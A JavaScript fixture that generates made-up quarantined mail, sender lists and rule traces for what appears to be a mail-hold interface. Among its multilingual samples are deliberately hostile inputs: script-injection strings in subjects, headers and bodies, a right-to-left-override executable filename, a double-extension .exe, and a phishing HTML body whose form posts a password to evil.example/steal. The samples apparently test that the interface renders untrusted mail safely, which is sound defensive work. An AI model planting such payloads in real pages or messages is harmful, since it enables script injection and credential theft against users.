// Made-up mail for the mock: varied, multilingual, and some of it hostile.
import { createHash } from "node:crypto";

const second = 1000;
const hour = 3600 * second;
const day = 24 * hour;

/** A small generator of repeatable numbers (mulberry32), so that every start shows the same mail. */
function dice(seed) {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4294967296;
  };
}

const hostile = "<img src=x onerror=alert(1)>";

const samples = [
  {
    name: "Deutsche Paketpost",
    address: "tracking@paketpost-zustellung.example",
    sender: "bounce@bulk-7.example.net",
    subject: "Ihre Sendung konnte nicht zugestellt werden",
    reason: "Sender domain registered 2 days ago",
    rule: "young domains",
  },
  {
    name: "Lena Vogt",
    address: "lena.vogt@handwerk-vogt.example",
    subject: "Angebot Nr. 2024-118 für die Fenster im Erdgeschoss",
    reason: "Attachment with macros",
    rule: "office macros",
    files: [["Angebot 2024-118.docm", "application/vnd.ms-word.document.macroEnabled.12", 184_320]],
  },
  {
    name: "The Morning Gate",
    address: "hello@morninggate.example",
    sender: "bounces+81@mailer.example.org",
    subject: "Seven walled towns worth a weekend",
    reason: "Newsletter host",
    rule: "newsletter host",
  },
  {
    name: hostile,
    address: "eve@evil.example",
    subject: `${hostile} <script>alert("subject")</script>`,
    reason: `Subject contains ${hostile}`,
    rule: "<b>markup</b> in subject",
    files: [
      [`"><img src=x onerror=alert(2)>.pdf`, "application/pdf", 12_044],
      ["invoice\u202efdp.exe", "application/octet-stream", 90_112],
    ],
  },
  {
    name: "محمد الأحمد",
    address: "m.alahmad@tijara.example",
    subject: "عرض أسعار للربع القادم (2025)",
    reason: "Message in an unusual language",
    rule: "foreign bulk",
  },
  {
    name: "",
    address: "",
    sender: "",
    subject: "Undelivered Mail Returned to Sender",
    reason: "Delivery notice for mail never sent",
    rule: "backscatter",
  },
  {
    name: "IT Service Desk",
    address: "helpdesk@examp1e.test",
    sender: "app@cloud-mail-91.example",
    subject: "ACTION REQUIRED: your mailbox will be closed in 24 hours",
    reason: "Looks like our own domain",
    rule: "look-alike domains",
    kind: "administrator",
  },
  {
    name: "Accounts, Northwind",
    address: "billing@northwind.example",
    subject: "Invoice 88213 is overdue",
    reason: "Executable attachment",
    rule: "no executables",
    kind: "administrator",
    files: [["Invoice-88213.pdf.exe", "application/x-msdownload", 734_003]],
  },
  {
    name: "佐藤 美咲",
    address: "misaki.sato@shashin.example",
    subject: "先日の写真をお送りします 📷",
    reason: "Size over 10 MB",
    rule: "large mail",
    files: [
      ["IMG_0231.jpg", "image/jpeg", 4_194_304],
      ["IMG_0232.jpg", "image/jpeg", 5_242_880],
      ["IMG_0240.heic", "image/heic", 2_097_152],
    ],
  },
  {
    name: "Board Secretary",
    address: "secretary@club.example",
    subject:
      "Minutes of the September meeting, with the corrections everyone asked for and the revised budget that we promised to send round before the end of the month",
    reason: "Bulk mail, no unsubscribe header",
    rule: "bulk",
  },
  {
    name: "",
    address: "no-name@plain.example",
    subject: "",
    reason: "No subject and no From name",
    rule: "empty subjects",
  },
  {
    name: "דנה כהן",
    address: "dana@studio-dana.example",
    subject: "הצעה לעיצוב מחדש של האתר – גרסה 3",
    reason: "First mail from this sender",
    rule: "first contact",
  },
  {
    name: "Newsletter",
    address: "news@example.net",
    subject: "This week: fewer meetings, better walls",
    reason: "Newsletter host",
    rule: "newsletter host",
  },
  {
    name: "Pía Núñez",
    address: "pia@nunez-arquitectos.example",
    subject: "Planos revisados — ¿nos vemos el jueves?",
    reason: "Link to a file-sharing site",
    rule: "file sharing links",
  },
];

const bodies = [
  "Hello,\n\nplease find the details below. If anything is unclear, call me before Thursday.\n\n  1. the price holds until the end of the month\n  2. delivery takes ten working days\n\nMore at https://example.net/offer?id=81&track=1\n\nKind regards",
  `Dear customer,\n\n${hostile}\n<script>alert("text")</script>\n\njavascript:alert(1)\n\nThis text must be shown as it is.`,
  "مرحبا،\n\nيرجى الاطلاع على العرض المرفق. السعر 1,250 يورو.\n\nمع التحية",
];

export const html_body = (images, host) => `<!doctype html><html><head><meta charset="utf-8">
<style>body{font:16px/1.5 sans-serif;max-width:600px;margin:24px auto;color:#222}h1{font-size:22px}.b{background:#0b6;color:#fff;padding:10px 16px;border-radius:6px}</style></head>
<body><h1>Your parcel is waiting</h1><p>Choose a time for the second delivery.</p>
<p><a class="b" href="https://evil.example/login">Choose a time</a></p>
<img src="${host}/pixel.gif" width="120" height="40" alt="logo">
<img src=x onerror="parent.postMessage('ran','*');alert(1)">
<script>parent.document.title = "owned"; alert("html")</script>
<form action="https://evil.example/steal"><input name="password"></form>
<p>${images ? "Images were asked for." : "Images were not asked for."}</p></body></html>`;

function trace_for(rule, reason) {
  return [
    {
      stage: "connection",
      rule: "",
      outcome: "not matched",
      detail: "No limit was reached; the recipient exists (250 from the back end).",
    },
    {
      stage: "administrator rules at RCPT",
      rule: "known bad hosts",
      outcome: "not matched",
      detail: "client 203.0.113.24 is in none of 3 networks",
    },
    {
      stage: "managed senders",
      rule: "",
      outcome: "not matched",
      detail: "Neither the envelope sender nor the header From is in a list.",
    },
    {
      stage: "sender authentication",
      rule: "dmarc",
      outcome: "unknown",
      detail: "DNS gave no answer within 5 s; the fallback is to go on.",
    },
    { stage: "content rules", rule, outcome: "matched", detail: reason },
    {
      stage: "content rules",
      rule: "large mail",
      outcome: "skipped",
      detail: "An earlier rule is at least as strict.",
    },
  ];
}

export function make_holds({ count, people, now = Date.now() }) {
  const roll = dice(7);
  const holds = [];
  for (let at = 0; at < count; at += 1) {
    const sample = samples[at % samples.length];
    const round = Math.floor(at / samples.length);
    const owner = people[at % 5 === 4 && people.length > 1 ? 1 + (at % (people.length - 1)) : 0];
    const kind = sample.kind ?? (at % 11 === 8 ? "moderator" : "user");
    const received = now - (count > 500 ? (at * 13 * day) / count : at * 3.7 * hour) - roll() * hour;
    const files = sample.files ?? [];
    const id = `h${createHash("sha256").update(`hold ${at}`).digest("hex").slice(0, 20)}`;
    holds.push({
      id,
      mail_id: `01${createHash("sha256").update(`mail ${at}`).digest("hex").slice(0, 14).toUpperCase()}`,
      owner,
      sender: sample.sender ?? sample.address,
      header_from: { name: sample.name, address: sample.address },
      to: owner,
      subject: round && sample.subject ? `${sample.subject} (${round + 1})` : sample.subject,
      reason: `Held by the mail administrator's rule "${sample.rule}": ${sample.reason}.`,
      rule: sample.rule,
      kind,
      state: "held",
      received_at: new Date(received).toISOString(),
      expires_at: new Date(received + 14 * day).toISOString(),
      size: 2_048 + Math.floor(roll() * 60_000) + files.reduce((sum, file) => sum + file[2], 0),
      sha256: createHash("sha256").update(id).digest("hex"),
      attachments: files.length,
      decided_by: null,
      decided_at: null,
      detail: {
        why: {
          summary: `Held by the mail administrator's rule "${sample.rule}": ${sample.reason}.`,
          rule: sample.rule,
          trace: trace_for(sample.rule, sample.reason),
        },
        headers: [
          {
            name: "Received",
            value:
              "from mail.example.net (mail.example.net [203.0.113.24])\r\n\tby mx.example.test with ESMTPS id 01ABCDEF",
          },
          { name: "From", value: `${sample.name} <${sample.address}>` },
          { name: "To", value: owner },
          { name: "Subject", value: sample.subject },
          { name: "X-Mailer", value: `Mass <b>Mailer</b> ${hostile}` },
          { name: "Message-ID", value: `<${id}@example.net>` },
        ],
        text: bodies[sample.name === hostile ? 1 : /[\u0600-\u06ff]/.test(sample.subject) ? 2 : 0],
        text_truncated: at % 7 === 2,
        has_html: at % 3 !== 1,
        has_remote_images: at % 3 !== 1,
        parts: files.map(([name, declared_type, size], index) => ({ index: index + 1, name, declared_type, size })),
        history: [{ at: new Date(received).toISOString(), who: "postern", act: "held", detail: `rule ${sample.rule}` }],
        client_address: "203.0.113.24",
        helo: sample.name === hostile ? hostile : "mail.example.net",
      },
    });
  }
  return holds;
}

export function make_senders(owner_domain, now = Date.now()) {
  const ago = (days) => new Date(now - days * day).toISOString();
  const entry = (text, days, by = "you") => ({
    entry: text,
    type: text.includes("@") ? "address" : "domain",
    added_at: ago(days),
    added_by: by,
  });
  return {
    own_domain: owner_domain,
    blocked: [
      entry("casino-royal.example", 3),
      entry("offers@bulk-7.example.net", 9),
      entry("evil.example", 40, "report"),
    ],
    permitted: [
      entry("morninggate.example", 1),
      entry("lena.vogt@handwerk-vogt.example", 12),
      entry("user1@casino-royal.example", 2),
    ],
    auto_permitted: [entry("pia@nunez-arquitectos.example", 5, "outbound mail")],
    trusted: [entry("misaki.sato@shashin.example", 20)],
  };
}

export function make_rejected(owner, now = Date.now()) {
  return samples.slice(0, 9).map((sample, at) => ({
    at: new Date(now - at * 17 * hour).toISOString(),
    sender: sample.sender ?? sample.address,
    header_from: { name: sample.name, address: sample.address },
    subject: sample.subject,
    reason: at % 2 ? "Blocked domain" : "Blocked sender",
    rule: "managed senders",
    recipient: owner,
  }));
}
